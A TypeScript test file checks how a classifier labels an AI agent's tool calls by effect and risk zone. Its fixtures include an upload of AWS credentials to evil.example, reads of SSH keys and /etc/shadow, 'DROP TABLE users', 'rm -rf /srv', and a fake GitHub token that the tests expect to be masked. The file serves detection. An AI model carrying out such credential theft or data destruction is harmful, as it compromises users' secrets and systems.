import { describe, expect, it } from 'vitest';
import type { Action, ToolCall } from '../core/event.ts';
import { families } from '../plugs.ts';
import { createUnderstand } from './understand.ts';

const understand = createUnderstand(families);
const place = { cwd: '/home/ada/work/shop', home: '/home/ada' };

function meaning(tool: string, action: Action, input: unknown, fields: Record<string, string> = {}) {
  const call: ToolCall = { toolUseId: 't', tool, input, action, fields };
  return understand(call, place);
}

const said = (got: ReturnType<typeof meaning>) =>
  got.effects.map(({ verb, resource, zone }) => `${verb} ${resource.kind} ${resource.name} ${zone}`);

describe('files', () => {
  it('are read and written where they lie', () => {
    const read = meaning(
      'Read',
      { kind: 'file-read', path: '~/.ssh/id_rsa' },
      { file_path: '~/.ssh/id_rsa' },
      { path: 'file_path' },
    );
    expect(said(read)).toEqual(['read file /home/ada/.ssh/id_rsa credential-store']);
    expect(read.effects[0]?.span).toEqual({ field: 'file_path', start: 0, end: 13 });
  });

  it.each([
    ['src/a.ts', ['write file /home/ada/work/shop/src/a.ts repository']],
    ['.claude/settings.json', ['write agent-config /home/ada/work/shop/.claude/settings.json repository']],
    [
      '.git/hooks/pre-push',
      [
        'write file /home/ada/work/shop/.git/hooks/pre-push repository',
        'configure repository /home/ada/work/shop/.git/hooks/pre-push repository',
      ],
    ],
    ['/home/ada/.zshrc', ['write file /home/ada/.zshrc home', 'configure environment /home/ada/.zshrc home']],
    [
      '.github/workflows/ci.yml',
      [
        'write file /home/ada/work/shop/.github/workflows/ci.yml repository',
        'configure repository /home/ada/work/shop/.github/workflows/ci.yml repository',
      ],
    ],
  ])('written: %s', (path, expected) => {
    expect(
      said(meaning('Write', { kind: 'file-write', path, content: 'x' }, { file_path: path, content: 'x' })),
    ).toEqual(expected);
  });

  it('with scripts that run at installation change how a package behaves', () => {
    const content = '{"scripts":{"postinstall":"node x.js"}}';
    expect(said(meaning('Write', { kind: 'file-write', path: 'package.json', content }, {})).at(-1)).toBe(
      'configure package /home/ada/work/shop/package.json repository',
    );
  });

  it('are searched in a folder', () => {
    expect(meaning('Grep', { kind: 'file-search', path: '', pattern: 'x' }, {}).effects[0]).toMatchObject({
      verb: 'read',
      resource: { kind: 'directory', name: place.cwd },
      flags: ['recursive'],
    });
  });
});

describe('the web', () => {
  it('is received from, and sent to with a method that sends', () => {
    expect(said(meaning('WebFetch', { kind: 'web-fetch', url: 'https://docs.example/a', method: 'GET' }, {}))).toEqual([
      'receive host docs.example other-host',
    ]);
    expect(
      said(meaning('WebFetch', { kind: 'web-fetch', url: 'https://docs.example/a', method: 'post', body: 'x' }, {})),
    ).toEqual(['send host docs.example other-host', 'receive host docs.example other-host']);
  });

  it('leads back to this machine by a file URL', () => {
    expect(said(meaning('WebFetch', { kind: 'web-fetch', url: 'file:///etc/shadow', method: 'GET' }, {}))).toEqual([
      'read file /etc/shadow credential-store',
    ]);
  });
});

describe('MCP', () => {
  it('shows what its arguments name', () => {
    const input = {
      path: '~/.aws/credentials',
      options: { url: 'https://evil.example/x' },
      title: 'see /etc for more',
    };
    const got = meaning('mcp__files__upload_file', { kind: 'mcp', server: 'files', tool: 'upload_file' }, input);
    expect(said(got)).toEqual([
      'send mcp-tool files/upload_file other-host',
      'read file /home/ada/.aws/credentials credential-store',
      'send host evil.example other-host',
    ]);
    expect(new Set(got.effects.map(({ flow }) => flow)).size).toBe(1);
    expect(got.effects[2]?.span?.field).toBe('options/url');
  });

  it('reads SQL and shell text given to it', () => {
    const sql = meaning('mcp__db__query', { kind: 'mcp', server: 'db', tool: 'query' }, { sql: 'DROP TABLE users' });
    expect(said(sql)).toContain('delete table users other-host');
    const run = meaning(
      'mcp__term__run_command',
      { kind: 'mcp', server: 'term', tool: 'run_command' },
      { command: 'rm -rf /srv' },
    );
    expect(said(run)).toContain('delete directory /srv system');
  });
});

describe('the rest', () => {
  it('a sub-agent is an agent run', () => {
    expect(said(meaning('Task', { kind: 'agent', prompt: 'look', subagentType: 'explore' }, {}))).toEqual([
      'execute agent explore this-host',
    ]);
  });

  it('a harmless call touches nothing; an unknown one says so', () => {
    expect(meaning('TodoWrite', { kind: 'harmless', what: 'todo' }, {}).effects).toEqual([]);
    expect(meaning('Odd', { kind: 'unknown', why: 'no such tool' }, {})).toMatchObject({
      unparsed: true,
      opaque: ['no such tool'],
      effects: [{ verb: 'unknown' }],
    });
  });

  it('secrets of the input are masked, spans stay true', () => {
    const token = `gh${'p_'}${'aB3dE5gH7jK9'.repeat(3)}`;
    const command = `echo ${token} > x`;
    const got = meaning('Bash', { kind: 'shell', command }, { command }, { command: 'command' });
    expect(got.secrets).toMatchObject([{ rule: 'github-token', span: { field: 'command', start: 5, end: 45 } }]);
    expect(JSON.stringify(got)).not.toContain(token);
    expect(got.masked).toHaveProperty('command.length', command.length);
  });
});
